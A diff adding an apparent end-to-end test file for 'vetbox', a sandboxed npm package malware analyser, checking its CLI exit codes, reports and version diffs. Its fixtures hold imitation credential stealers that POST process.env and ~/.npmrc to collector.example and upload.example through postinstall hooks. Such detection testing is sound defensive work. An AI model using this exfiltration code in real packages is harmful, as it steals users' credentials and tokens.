@@ -1,0 +1,154 @@
+// `npx vetbox analyze|diff --local` as a user runs them: the built bin in a child process, the
+// real pipeline in-process, real Docker. Imitation malware only targets `.example` hosts.
+import { spawn } from 'node:child_process';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import { gzipSync } from 'node:zlib';
+import tar from 'tar-stream';
+import { afterAll, afterEach, describe, expect, it } from 'vitest';
+import { Report } from '@vetbox/contracts';
+import { DockerRuntime, LABEL_ANALYSIS } from '@vetbox/sandbox';
+import { REPO_ROOT } from '../helpers/processes.js';
+
+const runtime = new DockerRuntime();
+let work = '';
+const analyses: string[] = [];
+
+afterAll(async () => {
+  if (work) await rm(work, { recursive: true, force: true });
+});
+
+// Every container, network and volume of a finished run is gone.
+afterEach(async () => {
+  for (const id of analyses.splice(0)) expect(await runtime.listByLabel(LABEL_ANALYSIS, id)).toEqual([]);
+});
+
+interface CliResult {
+  code: number | null;
+  stdout: string;
+  stderr: string;
+}
+
+function vetbox(args: string[], timeoutMs = 280_000): Promise<CliResult> {
+  return new Promise((resolve, reject) => {
+    const child = spawn('npx', ['--no-install', 'vetbox', ...args], { cwd: REPO_ROOT, env: process.env, stdio: ['ignore', 'pipe', 'pipe'] });
+    let stdout = '';
+    let stderr = '';
+    child.stdout.on('data', (c: Buffer) => (stdout += c.toString()));
+    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
+    const timer = setTimeout(() => {
+      child.kill('SIGINT');
+      reject(new Error(`vetbox ${args.join(' ')} still running after ${timeoutMs} ms\n${stderr}`));
+    }, timeoutMs);
+    child.on('error', reject);
+    child.on('close', (code) => {
+      clearTimeout(timer);
+      resolve({ code, stdout, stderr });
+    });
+  });
+}
+
+/** An npm tarball as `npm pack` lays it out (everything under package/). */
+async function npmTgz(file: string, manifest: Record<string, unknown>, files: Record<string, string>): Promise<string> {
+  work ||= await mkdtemp(path.join(os.tmpdir(), 'vetbox-cli-analyze-'));
+  const pack = tar.pack();
+  const chunks: Buffer[] = [];
+  pack.on('data', (c: unknown) => chunks.push(c as Buffer));
+  const done = new Promise<void>((resolve, reject) => pack.on('end', resolve).on('error', reject));
+  pack.entry({ name: 'package/package.json', mode: 0o644 }, JSON.stringify(manifest, null, 2));
+  for (const [name, content] of Object.entries(files)) pack.entry({ name: `package/${name}`, mode: 0o644 }, content);
+  pack.finalize();
+  await done;
+  const out = path.join(work, file);
+  await writeFile(out, gzipSync(Buffer.concat(chunks)));
+  return out;
+}
+
+function parseReport(result: CliResult): Report {
+  const report = Report.parse(JSON.parse(result.stdout));
+  if (report.analysisId) analyses.push(report.analysisId);
+  return report;
+}
+
+const STEALER = `
+const http = require('http');
+const body = Buffer.from(JSON.stringify(process.env)).toString('base64');
+const req = http.request({ host: 'collector.example', path: '/e', method: 'POST' }, (res) => res.resume());
+req.on('error', () => {});
+req.end(body);
+`;
+
+const NPMRC_POST = `
+const http = require('http'), fs = require('fs'), os = require('os');
+let data = '';
+try { data = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}
+const req = http.request({ host: 'upload.example', path: '/u', method: 'POST' }, (res) => res.resume());
+req.on('error', () => {});
+req.end(data);
+`;
+
+describe('vetbox analyze --local', () => {
+  it('an env stealer tarball: exit 2, the report JSON alone on stdout, credential-exfiltration', async () => {
+    const tgz = await npmTgz('cli-env-stealer-1.0.0.tgz', { name: 'cli-env-stealer', version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node steal.js' } }, {
+      'steal.js': STEALER,
+      'index.js': 'module.exports = 1;\n',
+    });
+    const result = await vetbox(['analyze', tgz, '--local', '--json']);
+    expect(result.code, result.stderr).toBe(2);
+    const report = parseReport(result);
+    expect(report.verdict).toBe('malicious');
+    expect(report.package).toMatchObject({ ecosystem: 'npm', name: 'cli-env-stealer', version: '1.0.0', source: 'upload' });
+    expect(report.analysisId).toMatch(/^local-/);
+    expect(report.findings.map((f) => f.rule)).toContain('credential-exfiltration');
+    expect(result.stderr).toMatch(/install \(\d+%\)/);
+  }, 300_000);
+
+  it('a tiny harmless package: exit 0, and the text summary', async () => {
+    const tgz = await npmTgz('cli-tiny-1.0.0.tgz', { name: 'cli-tiny', version: '1.0.0', main: 'index.js' }, {
+      'index.js': 'module.exports = (a, b) => a + b;\n',
+    });
+    const result = await vetbox(['analyze', tgz, '--local']);
+    expect(result.code, `${result.stdout}\n${result.stderr}`).toBe(0);
+    expect(result.stdout).toMatch(/^BENIGN {2}score \d+\/100 {2}npm:cli-tiny@1\.0\.0/);
+    expect(result.stdout).toContain('Leaked canaries: none');
+    const id = /analysis (local-[0-9a-f-]+)/.exec(result.stdout)?.[1];
+    if (id) analyses.push(id);
+  }, 300_000);
+
+  it('bad targets: exit 3 with a message on stderr and nothing on stdout', async () => {
+    const noVersion = await vetbox(['analyze', 'npm:left-pad', '--local', '--json'], 60_000);
+    expect(noVersion.code).toBe(3);
+    expect(noVersion.stdout).toBe('');
+    expect(noVersion.stderr).toMatch(/has no version; expected npm:<name>@<version>/);
+
+    work ||= await mkdtemp(path.join(os.tmpdir(), 'vetbox-cli-analyze-'));
+    const junk = path.join(work, 'junk.tgz');
+    await writeFile(junk, 'not an archive');
+    const bad = await vetbox(['analyze', junk, '--local', '--json'], 60_000);
+    expect(bad.code).toBe(3);
+    expect(bad.stdout).toBe('');
+    expect(bad.stderr).toMatch(/BAD_ARCHIVE: .*junk\.tgz is not a usable package archive/);
+  }, 120_000);
+});
+
+describe('vetbox diff --local', () => {
+  it('1.0.1 adds a postinstall that reads ~/.npmrc and POSTs it: added hosts and files, nothing removed', async () => {
+    const manifest = { name: 'cli-diff-fixture', main: 'index.js' };
+    const files = { 'index.js': 'module.exports = () => 42;\n' };
+    const a = await npmTgz('cli-diff-fixture-1.0.0.tgz', { ...manifest, version: '1.0.0' }, files);
+    const b = await npmTgz('cli-diff-fixture-1.0.1.tgz', { ...manifest, version: '1.0.1', scripts: { postinstall: 'node up.js' } }, { ...files, 'up.js': NPMRC_POST });
+    const result = await vetbox(['diff', a, b, '--local', '--json'], 560_000);
+    expect(result.code, result.stderr).toBe(0);
+    for (const id of result.stderr.matchAll(/analysis (local-[0-9a-f-]+)/g)) analyses.push(id[1]);
+    const diff = JSON.parse(result.stdout) as { added: Record<string, Array<{ key: string; summary: string }>>; removed: Record<string, unknown[]> };
+    const text = JSON.stringify(diff, null, 2);
+    expect(Object.keys(diff.added).sort()).toEqual(['canaries', 'files', 'findings', 'hosts', 'processes']);
+    expect(diff.added.hosts.length, text).toBeGreaterThan(0);
+    expect(diff.added.hosts.some((h) => h.key.includes('upload.example')), text).toBe(true);
+    expect(diff.added.files.some((f) => f.key.includes('.npmrc')), text).toBe(true);
+    expect(diff.removed.hosts, text).toEqual([]);
+    expect(diff.removed.canaries, text).toEqual([]);
+    expect(diff.removed.findings, text).toEqual([]);
+  }, 600_000);
+});
